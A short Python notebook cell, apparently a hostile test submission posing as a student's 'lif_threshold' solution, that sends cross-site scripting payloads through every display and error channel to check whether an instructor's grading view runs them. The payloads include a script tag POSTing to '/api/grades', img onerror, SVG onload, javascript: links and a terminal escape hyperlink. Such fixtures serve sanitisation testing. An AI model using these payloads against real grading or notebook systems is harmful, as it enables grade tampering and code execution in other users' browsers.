"""Puts scripts, forms and pictures where the instructor's browser would run them."""

# %% lif_threshold_solution
from IPython.display import HTML, SVG, Javascript, Markdown, display

evil = "<script>fetch('/api/grades', {method: 'POST'})</script><img src=x onerror=alert(1)>"
display(HTML(evil), Javascript("alert(1)"), Markdown(f"[x](javascript:alert(1)) {evil}"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'))
print(evil)
I_min = evil
raise ValueError(f"</pre>{evil}\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07")
